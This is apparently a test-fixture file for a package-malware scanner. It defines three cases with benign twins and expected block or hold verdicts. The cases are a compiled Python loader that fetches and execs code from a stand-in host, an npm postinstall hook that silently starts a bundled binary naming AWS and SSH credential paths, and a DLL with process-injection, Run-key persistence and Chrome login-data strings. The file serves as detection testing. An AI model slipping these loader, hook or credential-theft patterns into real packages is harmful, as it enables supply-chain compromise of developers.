import { opcodesOf } from '../../../src/formats/pyc/opcodes.ts'
import { elfOf } from '../../support/elf-writer.ts'
import { pycOf } from '../../support/marshal-writer.ts'
import { npm, type PackageCase, pypi, tarball, wheel, YOUNG } from '../../support/package-case.ts'
import { peOf } from '../../support/pe-writer.ts'

const strings = (...texts: readonly string[]): Buffer => Buffer.from(`${texts.join('\0')}\0`)

/** `exec(urllib.request.urlopen('https://collect.example/stage2').read())` as Python 3.8 compiles it. */
const loader = pycOf('3.8', {
  name: '<module>',
  names: ['urllib.request', 'urllib', 'exec', 'request', 'urlopen', 'read'],
  constants: [0, null, 'https://collect.example/stage2'],
  code: instructions(
    ['LOAD_CONST', 0],
    ['LOAD_CONST', 1],
    ['IMPORT_NAME', 0],
    ['STORE_NAME', 1],
    ['LOAD_NAME', 2],
    ['LOAD_NAME', 1],
    ['LOAD_ATTR', 3],
    ['LOAD_METHOD', 4],
    ['LOAD_CONST', 2],
    ['CALL_METHOD', 1],
    ['LOAD_METHOD', 5],
    ['CALL_METHOD', 0],
    ['CALL_FUNCTION', 1],
  ),
})

function instructions(...rows: readonly (readonly [name: string, argument: number])[]): Buffer {
  const numbers = new Map([...(opcodesOf('3.8')?.names ?? [])].map(([number, name]) => [name, number]))
  return Buffer.from(rows.flatMap(([name, argument]) => [numbers.get(name) ?? 255, argument]))
}
const honest = pycOf('3.12', { name: '<module>', names: ['math', 'sqrt', 'area'], constants: [0, null, 3] })

/** Programs without source: what they want of the system, and what stands in them. */
export const nativeAndBytecode: readonly PackageCase[] = [
  {
    id: 'a compiled module without its source',
    incident: 'fshec2 on PyPI, 2023: the payload is compiled Python only, which readers of source do not open',
    project: pypi(
      'fshec2',
      wheel('fshec2', '1.0.0', { 'fshec2/__init__.py': 'from . import full\n', 'fshec2/full.pyc': loader }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On import, asks a host that is only known when it runs and runs the answer as code\.$/,
      steps: ['fshec2/full.pyc:1'],
    },
    twin: pypi(
      'fshec2',
      wheel('fshec2', '1.0.0', { 'fshec2/__init__.py': 'from . import full\n', 'fshec2/full.pyc': honest }),
    ),
  },
  {
    id: 'a program that a hook starts',
    incident: 'as by packages of 2025: the hook starts a program of the package where nobody sees it',
    project: npm(
      'fast-native-sum',
      tarball(
        'fast-native-sum',
        '2.0.1',
        {
          'index.js': 'module.exports = (a, b) => a + b;\n',
          'install.js': `const { spawn } = require('child_process'); const path = require('path'); const fs = require('fs');
const program = path.join(__dirname, 'bin', 'updater.bin');
fs.chmodSync(program, 0o755);
spawn(program, [], { detached: true, stdio: 'ignore' }).unref();
`,
          'bin/updater.bin': elfOf({
            interpreter: '/lib64/ld-linux-x86-64.so.2',
            needed: ['libc.so.6'],
            imports: ['socket', 'connect', 'execve', 'getenv', 'fork'],
            data: strings('/.aws/credentials', '/.ssh/id_rsa', 'https://collect.example/up', '/bin/sh -c'),
          }),
        },
        { main: 'index.js', scripts: { postinstall: 'node install.js' } },
      ),
      {
        previous: tarball(
          'fast-native-sum',
          '2.0.0',
          { 'index.js': 'module.exports = (a, b) => a + b;\n' },
          { main: 'index.js' },
        ),
        since: YOUNG,
      },
    ),
    expect: {
      verdict: 'block',
      story: 'starts-bundled-program',
      text: /^On install, starts a program of the package where nobody sees it \(.*updater\.bin/,
      steps: ['install.js:4'],
    },
    twin: npm(
      'fast-native-sum',
      tarball(
        'fast-native-sum',
        '2.0.1',
        {
          'index.js': 'module.exports = require("./build/sum.node").sum;\n',
          'build/sum.node': elfOf({
            needed: ['libc.so.6'],
            imports: ['malloc', 'free', 'napi_create_double', 'napi_get_value_double'],
            exports: ['napi_register_module_v1'],
            data: strings('sum', 'two numbers are needed'),
          }),
        },
        { main: 'index.js' },
      ),
      {
        previous: tarball(
          'fast-native-sum',
          '2.0.0',
          { 'index.js': 'module.exports = (a, b) => a + b;\n' },
          { main: 'index.js' },
        ),
      },
    ),
  },
  {
    id: 'a library of Windows in a wheel',
    incident:
      'as by the num2words campaign: the import loads a library that injects into other programs and keeps itself in a run key',
    project: pypi(
      'winmetrics',
      wheel('winmetrics', '0.9.1', {
        'winmetrics/__init__.py':
          'import ctypes, os\nlibrary = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "scheduler.dll"))\nlibrary.start()\n',
        'winmetrics/scheduler.dll': peOf({
          imports: {
            'KERNEL32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread', 'OpenProcess'],
            'ADVAPI32.dll': ['RegSetValueExA'],
            'WININET.dll': ['InternetOpenA', 'InternetOpenUrlA', 'InternetReadFile'],
          },
          exports: ['start'],
          data: strings(
            'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
            'http://203.0.113.7/a.bin',
            '\\Google\\Chrome\\User Data\\Default\\Login Data',
          ),
        }),
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'hold',
      story: 'persists',
      text: /makes sure to be started again \(Run key\)/,
      steps: ['winmetrics/scheduler.dll:1'],
    },
    twin: pypi(
      'winmetrics',
      wheel('winmetrics', '0.9.1', {
        'winmetrics/__init__.py':
          'import ctypes, os\nlibrary = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "metrics.dll"))\n',
        'winmetrics/metrics.dll': peOf({
          imports: { 'KERNEL32.dll': ['QueryPerformanceCounter', 'GetProcessTimes', 'HeapAlloc'] },
          exports: ['sample'],
          data: strings('cpu', 'memory'),
        }),
      }),
    ),
  },
]
